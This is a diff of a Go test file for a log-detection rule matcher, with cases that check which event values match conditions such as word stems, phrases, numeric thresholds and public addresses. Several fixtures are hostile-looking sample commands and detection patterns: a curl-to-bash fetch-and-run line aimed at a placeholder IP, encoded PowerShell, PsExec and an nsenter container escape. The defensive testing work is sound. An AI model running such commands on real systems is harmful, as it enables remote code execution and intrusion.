@@ -1,4 +1,4 @@
-package detect_test
+package domain_test
 
 import (
 	"encoding/json"
@@ -41,69 +41,94 @@ func TestCondition(t *testing.T) {
 		reads, skips []string
 	}{
 		{
-			"whole words", state.FactCondition{Words: []string{"enc"}},
+			"whole words",
+			state.FactCondition{Words: []string{"enc"}},
 			[]string{`cmd | "powershell -enc aGk="`, `cmd | "ENC"`},
 			[]string{`cmd | "powershell -encoding utf8"`, `cmd | "fence"`},
 		},
 		{
-			"a stem", state.FactCondition{Words: []string{"delet*"}},
-			[]string{`cmd | "deleted all"`, `cmd | "deletion"`}, []string{`cmd | "undeleted"`},
+			"a stem",
+			state.FactCondition{Words: []string{"delet*"}},
+			[]string{`cmd | "deleted all"`, `cmd | "deletion"`},
+			[]string{`cmd | "undeleted"`},
 		},
 		{
-			"words that follow each other, in one part of a value", state.FactCondition{Words: []string{"logon type 10"}},
+			"words that follow each other, in one part of a value",
+			state.FactCondition{Words: []string{"logon type 10"}},
 			[]string{`logon | {"LogonType":10}`, `logon_type | 10`, `LogonType | "10"`, `event.logon-type | 10`},
 			[]string{`logon | {"LogonType":3,"port":10}`, `logon | {"type":"logon","n":10}`, `logon_type | 100`},
 		},
 		{
-			"dots for words between", state.FactCondition{Words: []string{"curl ... bash"}},
-			[]string{`cmd | "curl -s http://203.0.113.9/i > x && bash x"`}, []string{`cmd | "bash -c curl"`, `cmds | ["curl x","bash"]`},
+			"dots for words between",
+			state.FactCondition{Words: []string{"curl ... bash"}},
+			[]string{`cmd | "curl -s http://203.0.113.9/i > x && bash x"`},
+			[]string{`cmd | "bash -c curl"`, `cmds | ["curl x","bash"]`},
 		},
 		{
-			"a number of any kind", state.FactCondition{Words: []string{"ended #"}},
-			[]string{`window | "ended 2026-03-01"`}, []string{`window | "ended early"`},
+			"a number of any kind",
+			state.FactCondition{Words: []string{"ended #"}},
+			[]string{`window | "ended 2026-03-01"`},
+			[]string{`window | "ended early"`},
 		},
 		{
-			"a vocabulary", state.FactCondition{Words: []string{"@tools"}},
-			[]string{`svc | "PSEXEC"`}, []string{`svc | "psexecutive"`},
+			"a vocabulary",
+			state.FactCondition{Words: []string{"@tools"}},
+			[]string{`svc | "PSEXEC"`},
+			[]string{`svc | "psexecutive"`},
 		},
 		{
-			"another phrase beside it, and none that forbids", state.FactCondition{Words: []string{"key"}, And: []string{"added"}, Without: []string{"test"}},
-			[]string{`event | "key added"`}, []string{`event | "key"`, `event | "test key added"`},
+			"another phrase beside it, and none that forbids",
+			state.FactCondition{Words: []string{"key"}, And: []string{"added"}, Without: []string{"test"}},
+			[]string{`event | "key added"`},
+			[]string{`event | "key"`, `event | "test key added"`},
 		},
 		{
-			"a concept under all its names", state.FactCondition{Fields: []string{"command line"}, Words: []string{"nsenter"}},
+			"a concept under all its names",
+			state.FactCondition{Fields: []string{"command line"}, Words: []string{"nsenter"}},
 			[]string{`cmdline | "nsenter -t 1"`, `CommandLine | "nsenter"`, `process.command_line | "nsenter"`, `PROCESS-COMMAND-LINE | "nsenter"`, `process | {"CommandLine":"nsenter"}`},
 			[]string{`note | "nsenter"`, `process | {"CommandLine":"ls","note":"nsenter"}`},
 		},
 		{
-			"a number with a unit", state.FactCondition{Fields: []string{"bytes", "sent"}, AtLeast: number(1 << 30)},
+			"a number with a unit",
+			state.FactCondition{Fields: []string{"bytes", "sent"}, AtLeast: number(1 << 30)},
 			[]string{`bytes_out | 1073741824`, `flow | {"bytes":2e9}`, `sent_gb | 1.5`, `sent | "2.1 GB"`, `sent | "1,100 MiB"`},
 			[]string{`bytes_out | 1073741823`, `bytes_out | "many"`, `packets | 2000000000`, `sent_mb | 900`},
 		},
 		{
-			"a number at most", state.FactCondition{Fields: []string{"age"}, AtMost: number(86400)},
-			[]string{`age_days | 1`, `age | "20 minutes"`}, []string{`age_days | 2`, `age | []`},
+			"a number at most",
+			state.FactCondition{Fields: []string{"age"}, AtMost: number(86400)},
+			[]string{`age_days | 1`, `age | "20 minutes"`},
+			[]string{`age_days | 2`, `age | []`},
 		},
 		{
-			"a truth value", state.FactCondition{Fields: []string{"signed"}, Is: &no},
-			[]string{`signed | false`, `process | {"signed":"no"}`}, []string{`signed | true`, `signed | "by the vendor"`},
+			"a truth value",
+			state.FactCondition{Fields: []string{"signed"}, Is: &no},
+			[]string{`signed | false`, `process | {"signed":"no"}`},
+			[]string{`signed | true`, `signed | "by the vendor"`},
 		},
 		{
-			"a truth value that holds", state.FactCondition{Fields: []string{"first seen"}, Is: &yes},
-			[]string{`first_seen_edge | true`, `firstSeen | 1`}, []string{`first_seen | "2026-03-01"`, `first_seen | false`},
+			"a truth value that holds",
+			state.FactCondition{Fields: []string{"first seen"}, Is: &yes},
+			[]string{`first_seen_edge | true`, `firstSeen | 1`},
+			[]string{`first_seen | "2026-03-01"`, `first_seen | false`},
 		},
 		{
-			"a path where anybody may write", state.FactCondition{Fields: []string{"image"}, Kinds: []state.ValueKind{state.KindWritable}},
-			[]string{`image | "C:\\Users\\Public\\a.exe"`, `image | "/dev/shm/.x"`}, []string{`image | "C:\\Windows\\a.exe"`, `image | "/usr/bin/tmp"`},
+			"a path where anybody may write",
+			state.FactCondition{Fields: []string{"image"}, Kinds: []state.ValueKind{state.KindWritable}},
+			[]string{`image | "C:\\Users\\Public\\a.exe"`, `image | "/dev/shm/.x"`},
+			[]string{`image | "C:\\Windows\\a.exe"`, `image | "/usr/bin/tmp"`},
 		},
 		{
-			"a public address", state.FactCondition{Fields: []string{"source"}, Kinds: []state.ValueKind{state.KindPublic}},
+			"a public address",
+			state.FactCondition{Fields: []string{"source"}, Kinds: []state.ValueKind{state.KindPublic}},
 			[]string{`source_ip | "203.0.113.9"`, `source | "203.0.113.9:443"`, `source | "2001:db8::1"`},
 			[]string{`source_ip | "10.0.0.1"`, `source | "192.168.1.1"`, `source | "fe80::1"`, `source | "100.64.0.1"`, `source | "a.b"`},
 		},
 		{
-			"sources alone", state.FactCondition{Sources: []ledger.SourceType{ledger.SourceSyslog}},
-			[]string{`anything | {}`}, nil,
+			"sources alone",
+			state.FactCondition{Sources: []ledger.SourceType{ledger.SourceSyslog}},
+			[]string{`anything | {}`},
+			nil,
 		},
 	} {
 		t.Run(c.name, func(t *testing.T) {
